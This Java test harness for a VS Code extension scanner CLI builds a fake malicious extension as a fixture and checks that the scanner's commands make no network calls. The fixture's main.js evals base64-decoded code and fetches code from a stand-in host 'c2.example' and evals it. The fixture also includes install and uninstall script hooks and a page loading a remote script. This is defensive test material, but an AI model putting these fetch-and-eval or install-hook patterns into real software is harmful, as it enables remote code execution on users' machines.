package dev.vsxray.cli;

import dev.vsxray.cli.command.Host;
import dev.vsxray.cli.command.Surroundings;
import dev.vsxray.online.provenance.OnlineServices;
import dev.vsxray.scanner.Scanner;
import dev.vsxray.scanner.locate.Machine;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.List;
import java.util.Map;

/**
 * Runs commands under a {@link SilenceGuard} and prints their exit codes and what was tried. Started by {@link OfflineTest}
 * in a process of its own, since the guard cannot be taken off again.
 */
final class OfflineCommands {

    /** What nobody sees unless the code of the extension below is run. */
    static final String MARK = "it-ran";

    private OfflineCommands() {}

    /** @param arguments the folder to work in */
    public static void main(String[] arguments) throws IOException {
        Path folder = Path.of(arguments[0]);
        layOut(folder);
        for (List<String> command : commands()) {
            int before = SilenceGuard.attempts().size();
            int exitCode = run(folder, command);
            List<String> attempts = SilenceGuard.attempts();
            System.out.println(
                    exitCode + " " + String.join(" ", command) + " " + attempts.subList(before, attempts.size()));
        }
        run(folder, List.of("scan", "acme.tool", "--online", "--gallery", "http://127.0.0.1:9/"));
        System.out.println("online: " + SilenceGuard.attempts().size());
        WaysOut.all().forEach((name, way) -> System.out.println((isRefused(way) ? "refused " : "NOT REFUSED ") + name));
        // The default clients of the JDK keep threads.
        System.exit(0);
    }

    /** An extension that names many ways to be run, would leave a mark, and has all kinds of content. */
    private static void layOut(Path folder) throws IOException {
        String mark = folder.resolve(MARK).toString().replace("\\", "\\\\");
        Path extension = Files.createDirectories(folder.resolve("acme.tool-1.0.0"));
        Files.writeString(extension.resolve("package.json"), """
                {"publisher": "acme", "name": "tool", "version": "1.0.0", "engines": {"vscode": "*"},
                 "main": "./main.js", "activationEvents": ["*"],
                 "scripts": {"vscode:uninstall": "touch %1$s", "postinstall": "touch %1$s"},
                 "icon": "https://c2.example/icon.png"}
                """.formatted(mark));
        Files.writeString(extension.resolve("main.js"), """
                require('fs').writeFileSync('%1$s', 'x');
                require('child_process').execSync('touch %1$s');
                eval(Buffer.from('cmVxdWlyZSgnZnMnKQ==', 'base64').toString());
                require('https').get('https://c2.example/x', response => response.on('data', data => eval(data)));
                """.formatted(mark));
        Files.writeString(
                extension.resolve("page.html"),
                "<script src='https://c2.example/x.js'></script><img src='//c2.example/p'>");
        Files.writeString(extension.resolve("run.sh"), "#!/bin/sh\ntouch " + mark + "\n");
        Path installed = Files.createDirectories(folder.resolve(".vscode/extensions"));
        Files.writeString(installed.resolve("extensions.json"), "[]");
        Path copy = Files.createDirectories(installed.resolve("acme.tool-1.0.0"));
        for (String file : List.of("package.json", "main.js")) {
            Files.copy(extension.resolve(file), copy.resolve(file));
        }
        Files.writeString(folder.resolve("list.txt"), "acme.bad\n");
    }

    /** The commands that leave the machine alone, in an order in which each finds what it needs. */
    static List<List<String>> commands() {
        return List.of(
                List.of("--help"),
                List.of("scan"),
                List.of("scan", "acme.tool-1.0.0", "-o", "old.json", "-o", "report.html", "-o", "bom.cdx.json"),
                List.of("scan", "acme.tool-1.0.0", "--baseline", "old.json", "--format", "sarif"),
                List.of("demo"),
                List.of("diff", "old.json", "acme.tool-1.0.0"),
                List.of("fleet", "report", "old.json"),
                List.of("policy", "export", "old.json"),
                List.of("nightly", "run"),
                List.of("history", "list"),
                List.of("rules", "list"),
                List.of("rules", "explain", "network-data-becomes-code"),
                List.of("strings", "acme.tool-1.0.0/main.js"),
                List.of("decode", "cmVxdWlyZSgnZnMnKQ=="),
                List.of("intel", "import", "list.txt", "--name", "ours"),
                List.of("intel", "status"),
                List.of("intel", "diff", "shipped", "current"),
                List.of("intel", "export", "team.vsxi"),
                List.of("intel", "keys", "team"),
                List.of(
                        "intel",
                        "sign",
                        "team.vsxi",
                        "--private-key",
                        "team.private.pem",
                        "--public-key",
                        "team.public.pem"),
                List.of("intel", "verify", "team.vsxi", "--key", "team.public.pem"));
    }

    private static boolean isRefused(WaysOut.Way way) {
        int before = SilenceGuard.attempts().size();
        try {
            way.take();
            return false;
        } catch (InterruptedException interrupted) {
            Thread.currentThread().interrupt();
            return false;
        } catch (IOException | RuntimeException refused) {
            return SilenceGuard.attempts().size() > before;
        }
    }

    private static int run(Path folder, List<String> command) {
        PrintStream nowhere = new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8);
        Surroundings around = new Surroundings(
                nowhere,
                nowhere,
                false,
                false,
                StandardCharsets.UTF_8,
                Map.of(
                        "HOME",
                        folder.toString(),
                        "VSXRAY_STATE",
                        folder.resolve("state").toString()),
                folder,
                Clock.systemUTC());
        Machine machine = new Machine(Machine.Os.LINUX, folder, folder, Map.of());
        return Vsxray.commandLine(
                        new Scanner(machine, "", "test", around.clock())::scan,
                        around,
                        Host.current(),
                        OnlineServices::publicOnes)
                .execute(command.toArray(String[]::new));
    }
}
